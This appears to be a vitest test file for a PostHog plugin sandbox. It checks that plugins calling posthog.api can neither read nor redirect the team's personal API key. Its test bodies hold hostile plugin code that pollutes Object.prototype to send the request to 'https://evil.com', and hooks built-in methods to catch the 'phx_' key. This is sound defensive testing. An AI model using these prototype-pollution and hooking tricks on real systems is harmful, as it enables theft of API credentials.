import { describe, expect, test } from "vitest";

import { attack, survived } from "./support/attack.ts";
import { network, PERSONAL_KEY } from "./support/network.ts";

describe("The team's personal key is used by posthog.api, and never the plugin's to see or to change.", () => {
  test("what a plugin puts on prototypes changes nothing but its own request", async () => {
    const { left, options } = network();
    const body = `
      for (const [name, value] of Object.entries({ headers: [["authorization", "x"]], method: "delete", url: "https://evil.com" }))
        Object.defineProperty(Object.prototype, name, { value, configurable: true, writable: true });
      const result = await posthog.api.get("/api/x", { __proto__: null }).then((r) => r.status, String);
      for (const name of ["headers", "method", "url"]) delete Object.prototype[name];
      return result`;
    expect(await survived(body, options)).toBe(200);
    expect(left).toEqual([
      {
        url: "https://us.posthog.com/api/x?token=phc_team",
        method: "GET",
        headers: { authorization: `Bearer ${PERSONAL_KEY}` },
        body: "",
      },
    ]);
  });

  test("no listener in the sandbox hears of it", async () => {
    const { options } = network();
    const body = `
      const heard = []; const { stringify } = JSON;
      for (const [of, name] of [[JSON, "parse"], [Array.prototype, "map"], [String.prototype, "replace"], [Map.prototype, "set"]])
        { const real = of[name]; of[name] = function (...args) { heard.length < 999 && (heard[heard.length] = args + ""); return real.apply(this, args) } }
      const response = await posthog.api.get("/api/x");
      heard.push(stringify([...response.headers]), response.url, String(posthog.api.get));
      return heard.some((text) => text.includes("phx_"))`;
    expect(await survived(body, options)).toBe(false);
  });

  test.each([
    "{ personalApiKey: 'phx_mine' }",
    "{ projectApiKey: 'phc_mine' }",
    "{ personalApiKey: 'phx_mine', projectApiKey: '' }",
  ])("half of the keys is none: %s", async (keys) => {
    const { left, options } = network();
    const { result } = await attack(`await posthog.api.get("/x", ${keys})`, options);
    expect(result.thrown).toBe(
      "Error: You must specify a personalApiKey if you specify a projectApiKey and vice-versa!",
    );
    expect(left).toEqual([]);
  });

  test("keys of the plugin's own take the place of both", async () => {
    const { left, options } = network();
    await survived("await posthog.api.get('/x', { personalApiKey: 'phx_mine', projectApiKey: 'phc_mine' })", options);
    expect(left).toMatchObject([
      { url: "https://us.posthog.com/x?token=phc_mine", headers: { authorization: "Bearer phx_mine" } },
    ]);
  });

  test("getters, proxies and huge options are the plugin's own problem", async () => {
    for (const options of [
      "new Proxy({}, { get() { throw new Error('mine') } })",
      "{ get data() { throw new Error('mine') } }",
      "{ data: (() => { const a = {}; a.a = a; return a })() }",
      "{ data: { toJSON() { throw new Error('mine') } } }",
    ]) {
      const { left, options: surroundings } = network();
      const { plugin, result } = await attack(`await posthog.api.post("/x", ${options})`, surroundings);
      expect(result.outcome.kind).toBe("threw");
      expect(plugin.sandbox.lost).toBe(false);
      expect(left).toEqual([]);
    }
  });
});
